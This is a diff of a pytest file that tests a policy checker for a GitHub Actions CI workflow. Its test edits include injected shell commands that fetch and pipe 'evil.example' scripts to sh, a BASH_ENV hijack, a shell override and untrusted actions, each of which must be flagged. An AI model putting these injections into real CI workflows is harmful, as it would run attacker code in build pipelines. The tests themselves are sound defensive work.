@@ -1,9 +1,11 @@
-"""The workflow and the noxfile stay one pipeline: every run step is a nox session that
-exists, every pipeline stage is in the workflow, and `needs:` follows the pipeline order."""
+"""The workflow and the noxfile stay one pipeline, and the workflow cannot be made to run
+anything else: gates/workflow_policy.py holds .github/workflows/ci-cd.yml to the stage
+registry and the nox sessions that exist. It passes on the real workflow; every edit below,
+each applied to the real workflow's YAML, is a way the old regex-based parity check was fooled
+(or another rule of the policy), and each must produce its problem line."""
 
 import copy
 import json
-import re
 import subprocess
 import sys
 from pathlib import Path
@@ -11,23 +13,15 @@ from pathlib import Path
 import pytest
 import yaml
 
-from gates import stages
+from gates import stages, workflow_policy
+from gates.config import load_config
+from gates.lint import check_pipeline_workflow
+from gates.report import Report
+from support.pipeline_project import make_project
 
 ROOT = Path(__file__).resolve().parents[2]
 WORKFLOW = ROOT / ".github" / "workflows" / "ci-cd.yml"
-# The pipeline's order as the registry declares it; the workflow's recovery path besides.
-PIPELINE = tuple(step.session for step in stages.PIPELINE) + stages.WORKFLOW_ONLY
-RECOVERY = ("failure()", "github.event_name == 'workflow_dispatch'")
-BOOTSTRAP = "python -m pip install -r bootstrap-requirements.txt"
-# The engine-backed tests' set-up, as .ci/run does it: Debian's packages (prometheus: the
-# promtool the SLO rule tests run), then the engine session as root (it starts the registry
-# and builds the base images with debootstrap).
-ENGINE_SETUP = (
-    "sudo apt-get install -y -q debootstrap docker-registry prometheus",
-    'sudo --preserve-env=DOCKER_HOST "$(command -v nox)" -s engine -- up',
-    'sudo --preserve-env=DOCKER_HOST "$(command -v nox)" -s engine -- down',
-)
-NOX_CALL = re.compile(r"^nox -s ([a-z][a-z0-9-]*)(?: -- .*)?$")
+EVIL = "curl -fsS https://evil.example/x.sh"
 
 
 @pytest.fixture(scope="module")
@@ -49,70 +43,44 @@ def workflow():
     return yaml.safe_load(WORKFLOW.read_text())
 
 
-def job_sessions(job):
-    """The nox sessions a job runs, in order; problems with any other run step."""
-    found, problems = [], []
-    for step in job.get("steps", []):
-        command = step.get("run")
-        if command is None:
-            continue
-        command = command.strip()
-        match = NOX_CALL.match(command)
-        if match:
-            found.append(match.group(1))
-        elif command not in (BOOTSTRAP, *ENGINE_SETUP):
-            problems.append(f"run step is not a nox call: {command!r}")
-    return found, problems
-
-
 def parity_problems(document, sessions):
-    problems = []
-    jobs = document["jobs"]
-    first_stage = {}
-    covered = set()
-    for name, job in jobs.items():
-        found, bad = job_sessions(job)
-        problems += [f"{name}: {p}" for p in bad]
-        for session in found:
-            if session not in sessions:
-                problems.append(f"{name}: nox session {session!r} does not exist")
-        covered.update(found)
-        stages = [PIPELINE.index(s) for s in found if s in PIPELINE]
-        # Recovery jobs (on a failure of the jobs they need, or by hand) are not pipeline steps.
-        if stages and job.get("if") not in RECOVERY:
-            first_stage[name] = min(stages)
-    for stage in PIPELINE:
-        if stage not in covered:
-            problems.append(f"pipeline stage {stage!r} is not in the workflow")
-
-    def ancestors(name, seen=None):
-        seen = set() if seen is None else seen
-        needs = jobs[name].get("needs", [])
-        for need in [needs] if isinstance(needs, str) else needs:
-            if need not in jobs:
-                problems.append(f"{name}: needs unknown job {need!r}")
-            elif need not in seen:
-                seen.add(need)
-                ancestors(need, seen)
-        return seen
-
-    for name, stage in first_stage.items():
-        before = ancestors(name)
-        for other, other_stage in first_stage.items():
-            if other_stage < stage and other not in before:
-                problems.append(
-                    f"{name} ({PIPELINE[stage]}) does not wait for "
-                    f"{other} ({PIPELINE[other_stage]})"
-                )
-    return sorted(set(problems))
+    return workflow_policy.problems(document, sessions)
 
 
-def test_workflow_matches_the_noxfile(sessions):
-    assert parity_problems(workflow(), sessions) == []
+def step(jobs, job, run=None, uses=None):
+    """The step of ``job`` that runs ``run`` (exactly) or uses ``uses`` (a prefix)."""
+    for found in jobs[job]["steps"]:
+        if run is not None and found.get("run") == run:
+            return found
+        if uses is not None and str(found.get("uses", "")).startswith(uses):
+            return found
+    raise AssertionError(f"{job} has no step {run or uses!r}: the workflow changed")
 
 
-def test_pipeline_sessions_exist_in_the_noxfile(sessions):
-    assert set(PIPELINE) <= sessions
+def set_run(job, old, new):
+    return lambda jobs: step(jobs, job, run=old).__setitem__("run", new)
+
+
+def set_key(job, run, key, value):
+    return lambda jobs: step(jobs, job, run=run).__setitem__(key, value)
+
+
+def move_before(job, moved, before):
+    def change(jobs):
+        steps = jobs[job]["steps"]
+        item = step(jobs, job, run=moved)
+        steps.remove(item)
+        steps.insert(steps.index(step(jobs, job, run=before)), item)
+
+    return change
+
+
+def insert_before(job, run, new_step):
+    def change(jobs):
+        steps = jobs[job]["steps"]
+        steps.insert(steps.index(step(jobs, job, run=run)), new_step)
+
+    return change
 
 
 def edited(change):
@@ -121,33 +89,259 @@ def edited(change):
     return document
 
 
-@pytest.mark.parametrize(
-    "change, problem",
-    [
-        (
-            lambda jobs: jobs["test"]["steps"].append({"run": "pytest -q"}),
-            "test: run step is not a nox call: 'pytest -q'",
+# The eleven bypasses of issue 18: each passed the regex-based parity check.
+BYPASSES = [
+    pytest.param(
+        set_run("lint", "nox -s lint", f"nox -s lint -- && {EVIL} | sh"),
+        "lint: run step is not `nox -s <session> [-- <literal args>]`: "
+        f"'nox -s lint -- && {EVIL} | sh'",
+        id="and-then-curl-pipe-sh",
+    ),
+    pytest.param(
+        set_run("lint", "nox -s lint", f"nox -s lint -- ; {EVIL}"),
+        f"lint: run step is not `nox -s <session> [-- <literal args>]`: 'nox -s lint -- ; {EVIL}'",
+        id="semicolon",
+    ),
+    pytest.param(
+        set_run("lint", "nox -s lint", f"nox -s lint -- $({EVIL})"),
+        "lint: run step is not `nox -s <session> [-- <literal args>]`: "
+        f"'nox -s lint -- $({EVIL})'",
+        id="command-substitution",
+    ),
+    pytest.param(
+        set_run("lint", "nox -s lint", 'nox -s lint -- "${{ github.event.pull_request.title }}"'),
+        "lint: run step is not `nox -s <session> [-- <literal args>]`: "
+        "'nox -s lint -- \"${{ github.event.pull_request.title }}\"'",
+        id="expression-in-run",
+    ),
+    pytest.param(
+        set_key("security", "nox -s security", "continue-on-error", True),
+        "security: step 'nox -s security': key continue-on-error is not allowed",
+        id="continue-on-error",
+    ),
+    pytest.param(
+        set_key("security", "nox -s security", "if", False),
+        "security: step 'nox -s security': if 'false': a step that runs a stage always runs",
+        id="if-false-on-a-stage",
+    ),
+    pytest.param(
+        lambda jobs: jobs["build"].__setitem__("if", "always()"),
+        "build: if 'always()' is not allowed for a job of role stages",
+        id="if-always-on-build",
+    ),
+    pytest.param(
+        set_key("lint", "nox -s lint", "shell", "bash --noprofile --norc -c 'id' {0}"),
+        "lint: step 'nox -s lint': key shell is not allowed",
+        id="shell-override",
+    ),
+    pytest.param(
+        lambda jobs: jobs["security"].__setitem__("env", {"BASH_ENV": "/tmp/evil.sh"}),
+        "security: env BASH_ENV is not allowed (not in workflow_policy.ALLOWED_ENV)",
+        id="bash-env",
+    ),
+    pytest.param(
+        insert_before("lint", "nox -s lint", {"uses": "evil/action@main"}),
+        "lint: uses evil/action@main: evil/action is not an allowed action",
+        id="third-party-action",
+    ),
+    pytest.param(
+        move_before(
+            "deploy-staging", "nox -s perf", 'nox -s deploy-staging -- --release "$RELEASE_ID"'
         ),
-        (
-            lambda jobs: jobs["lint"]["steps"].append({"run": "nox -s lnit"}),
-            "lint: nox session 'lnit' does not exist",
+        "deploy-staging: deploy-staging runs after perf, against the pipeline's order",
+        id="perf-before-deploy-in-one-job",
+    ),
+]
+
+# More of the policy: each rule can fail.
+RULES = [
+    pytest.param(
+        lambda jobs: jobs["test"]["steps"].append({"run": "pytest -q"}),
+        "test: run step is not `nox -s <session> [-- <literal args>]`: 'pytest -q'",
+        id="not-a-nox-call",
+    ),
+    pytest.param(
+        lambda jobs: jobs["lint"]["steps"].append({"run": "nox -s lnit"}),
+        "lint: nox session 'lnit' does not exist",
+        id="unknown-session",
+    ),
+    pytest.param(
+        lambda jobs: jobs["lint"]["steps"].append({"run": "nox -s drill"}),
+        "lint: nox session 'drill' is not a pipeline stage",
+        id="not-a-pipeline-session",
+    ),
+    pytest.param(
+        lambda jobs: jobs["deploy-staging"].__setitem__(
+            "steps", [s for s in jobs["deploy-staging"]["steps"] if s.get("run") != "nox -s perf"]
         ),
-        (
-            lambda jobs: jobs["deploy-staging"]["steps"].__setitem__(
-                slice(None),
-                [s for s in jobs["deploy-staging"]["steps"] if "perf" not in s.get("run", "")],
-            ),
-            "pipeline stage 'perf' is not in the workflow",
+        "pipeline stage 'perf' is not in the workflow",
+        id="stage-missing",
+    ),
+    pytest.param(
+        lambda jobs: jobs["build"].__setitem__("needs", "lint"),
+        "build (build) does not wait for security (security)",
+        id="needs-out-of-order",
+    ),
+    pytest.param(
+        lambda jobs: jobs["deploy-production"].__setitem__("needs", ["build", "nope"]),
+        "deploy-production: needs unknown job 'nope'",
+        id="needs-unknown-job",
+    ),
+    pytest.param(
+        set_run("test", "nox -s test", "nox -s test -- -k nothing"),
+        "test: step 'nox -s test -- -k nothing': test takes no arguments here "
+        "(they would go to its tool)",
+        id="narrowing-a-passthrough-stage",
+    ),
+    pytest.param(
+        set_key("lint", "nox -s lint", "working-directory", "/tmp/elsewhere"),
+        "lint: step 'nox -s lint': key working-directory is not allowed",
+        id="working-directory",
+    ),
+    pytest.param(
+        lambda jobs: jobs["security"].__setitem__("continue-on-error", True),
+        "security: key continue-on-error is not allowed on a job",
+        id="job-continue-on-error",
+    ),
+    pytest.param(
+        lambda jobs: jobs["lint"].__setitem__("defaults", {"run": {"shell": "python {0}"}}),
+        "lint: key defaults is not allowed on a job",
+        id="job-defaults",
+    ),
+    pytest.param(
+        set_key("lint", "nox -s lint", "env", {"NOX_DEFAULT_VENV_BACKEND": "none"}),
+        "lint: step 'nox -s lint': env NOX_DEFAULT_VENV_BACKEND is not allowed "
+        "(not in workflow_policy.ALLOWED_ENV)",
+        id="nox-env",
+    ),
+    pytest.param(
+        lambda jobs: step(jobs, "lint", uses="actions/checkout").__setitem__(
+            "uses", "actions/checkout@v7"
         ),
-        (
-            lambda jobs: jobs["build"].__setitem__("needs", "lint"),
-            "build (build) does not wait for security (security)",
+        "lint: uses actions/checkout@v7: not pinned by a full commit SHA",
+        id="allowed-action-by-tag",
+    ),
+    pytest.param(
+        lambda jobs: jobs["rollback-staging"].__setitem__("if", "failure()"),
+        "rollback-staging: if 'failure()' is not allowed for a job of role recovery",
+        id="rollback-on-any-failure",
+    ),
+    pytest.param(
+        lambda jobs: step(jobs, "lint", uses="actions/upload-artifact").__setitem__(
+            "if", "always()"
         ),
-        (
-            lambda jobs: jobs["deploy-production"].__setitem__("needs", ["build", "nope"]),
-            "deploy-production: needs unknown job 'nope'",
+        "lint: step 'actions/upload-artifact@bbbca2ddaa5d8feaa63e36b76fdaad77386f024f': "
+        "if 'always()' is not allowed on an action step",
+        id="upload-without-a-file-guard",
+    ),
+    pytest.param(
+        lambda jobs: step(jobs, "lint", uses="actions/checkout")["with"].__setitem__(
+            "repository", "evil/fork"
         ),
-    ],
-)
-def test_an_edit_that_breaks_parity_is_caught(sessions, change, problem):
-    assert problem in parity_problems(edited(change), sessions)
+        "lint: actions/checkout: input repository is not allowed",
+        id="checkout-of-other-code",
+    ),
+    pytest.param(
+        lambda jobs: step(jobs, "lint", uses="actions/checkout")["with"].__setitem__(
+            "persist-credentials", True
+        ),
+        "lint: actions/checkout: persist-credentials must be false",
+        id="checkout-keeps-the-token",
+    ),
+    pytest.param(
+        lambda jobs: step(jobs, "deploy-production", uses="actions/download-artifact")[
+            "with"
+        ].__setitem__("run-id", "12345"),
+        "deploy-production: actions/download-artifact: input run-id is not allowed",
+        id="release-from-another-run",
+    ),
+    pytest.param(
+        lambda jobs: step(jobs, "all-green", uses="re-actors/alls-green")["with"].__setitem__(
+            "allowed-failures", "security"
+        ),
+        "all-green: re-actors/alls-green: input allowed-failures is not allowed",
+        id="all-green-allows-a-failure",
+    ),
+    pytest.param(
+        lambda jobs: jobs["security"].__setitem__(
+            "if", "github.event_name == 'push' && github.ref == 'refs/heads/main'"
+        ),
+        "security: runs stages before build: it must run for every push and pull request, "
+        "not on main only",
+        id="security-on-main-only",
+    ),
+    pytest.param(
+        lambda jobs: jobs["lint"]["steps"].append(
+            {"run": "nox -s rollback -- --environment production --reason x"}
+        ),
+        "lint: a job that runs pipeline stages runs no recovery session",
+        id="rollback-inside-a-stage-job",
+    ),
+    pytest.param(
+        lambda jobs: jobs["lint"].pop("timeout-minutes"),
+        "lint: job has no timeout-minutes",
+        id="no-timeout",
+    ),
+    pytest.param(
+        lambda jobs: jobs["lint"].__setitem__("runs-on", "self-hosted"),
+        "lint: runs-on 'self-hosted' is not one of ['ubuntu-22.04', 'ubuntu-24.04', "
+        "'ubuntu-latest']",
+        id="self-hosted-runner",
+    ),
+]
+
+
+def test_the_workflow_keeps_the_policy(sessions):
+    assert parity_problems(workflow(), sessions) == []
+
+
+def test_pipeline_sessions_exist_in_the_noxfile(sessions):
+    assert set(workflow_policy.PIPELINE + workflow_policy.RECOVERY) <= sessions
+
+
+def test_the_lint_gate_knows_the_sessions_nox_lists(sessions):
+    # The lint gate judges with the registry's sessions (no nox run); nox adds only `lock`.
+    assert {s.name for s in stages.sessions()} == sessions - {"lock"}
+
+
+@pytest.mark.parametrize("change, problem", BYPASSES)
+def test_each_known_bypass_is_caught(sessions, change, problem):
+    found = parity_problems(edited(change), sessions)
+    assert problem in found, "\n".join(found)
+
+
+@pytest.mark.parametrize("change, problem", RULES)
+def test_an_edit_that_breaks_the_policy_is_caught(sessions, change, problem):
+    found = parity_problems(edited(change), sessions)
+    assert problem in found, "\n".join(found)
+
+
+def test_each_problem_is_one_line(sessions):
+    for param in BYPASSES + RULES:
+        found = parity_problems(edited(param.values[0]), sessions)
+        assert found and all(line and "\n" not in line for line in found), param.id
+
+
+def test_an_unreadable_workflow_is_one_problem(tmp_path, sessions):
+    path = tmp_path / "ci.yml"
+    path.write_text("jobs: [unclosed\n")
+    found = workflow_policy.check_file(path, sessions)
+    assert len(found) == 1 and found[0].startswith(f"{path}: cannot be read as YAML")
+
+
+def test_the_lint_gate_fails_on_a_workflow_that_breaks_the_policy(tmp_path):
+    config_path = make_project(tmp_path)
+    broken = edited(set_key("security", "nox -s security", "continue-on-error", True))
+    (tmp_path / "ci-cd.yml").write_text(yaml.safe_dump(broken))
+    config_path.write_text(
+        config_path.read_text().replace(
+            "[tool.pipeline.lint]\n", '[tool.pipeline.lint]\npipeline_workflow = "ci-cd.yml"\n'
+        )
+    )
+    report = Report("lint")
+    check_pipeline_workflow(load_config(config_path), report)
+    (check,) = report.checks
+    assert check.name == "workflow policy" and not check.passed
+    assert report.details["workflow policy"]["problems"] == [
+        "security: step 'nox -s security': key continue-on-error is not allowed"
+    ]
